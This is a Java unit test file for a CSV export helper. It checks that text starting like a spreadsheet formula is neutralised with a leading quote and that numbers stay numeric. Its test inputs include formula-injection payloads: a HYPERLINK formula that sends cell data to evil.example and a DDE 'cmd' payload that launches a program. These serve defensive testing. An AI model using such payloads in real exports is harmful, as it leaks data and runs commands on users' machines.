package dev.platformmaturity.shared;

import java.math.BigDecimal;

import com.tngtech.archunit.core.importer.ClassFileImporter;
import com.tngtech.archunit.core.importer.ImportOption;
import org.apache.commons.csv.CSVPrinter;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

import static com.tngtech.archunit.lang.syntax.ArchRuleDefinition.noClasses;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * Cells a spreadsheet would run as formulas are neutralised; numbers the application
 * writes stay numbers.
 */
class CsvExportTest {

	@ParameterizedTest
	@ValueSource(strings = { "=1+1", "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")", "+SUM(A1:A9)", "-2+3",
			"-1.5", "@SUM(A1)", "\t=1+1", "\r=cmd|' /C calc'!A0", "=" })
	void textThatStartsLikeAFormulaGetsALeadingQuote(String text) {
		assertThat(CsvExport.cell(text)).isEqualTo("'" + text);
	}

	@ParameterizedTest
	@ValueSource(strings = { "", "Payments", "支付平台", "2026-Q4", "a=b", "x+1", "e-mail", "name@example.org", " =1+1",
			"'=1+1", "\n=1" })
	void otherTextIsWrittenAsItIs(String text) {
		assertThat(CsvExport.cell(text)).isEqualTo(text);
	}

	@Test
	void numbersWrittenByTheApplicationAreDataEvenWhenNegative() {
		assertThat(CsvExport.cell(new BigDecimal("2.50"))).isEqualTo("2.50");
		assertThat(CsvExport.cell(new BigDecimal("-1.5"))).isEqualTo("-1.5");
		assertThat(CsvExport.cell(new BigDecimal("1E+3"))).isEqualTo("1000");
		assertThat(CsvExport.cell(-3)).isEqualTo("-3");
		assertThat(CsvExport.cell(20L)).isEqualTo("20");
		assertThat(CsvExport.cell(true)).isEqualTo("true");
		assertThat(CsvExport.cell(null)).isEmpty();
	}

	@Test
	void everyExportWritesThroughThisClass() {
		noClasses().that()
			.doNotBelongToAnyOf(CsvExport.class)
			.should()
			.dependOnClassesThat()
			.belongToAnyOf(CSVPrinter.class)
			.because("CsvExport is the one writer that neutralises formulas")
			.check(new ClassFileImporter().withImportOption(ImportOption.Predefined.DO_NOT_INCLUDE_TESTS)
				.importPackages("dev.platformmaturity"));
	}

}
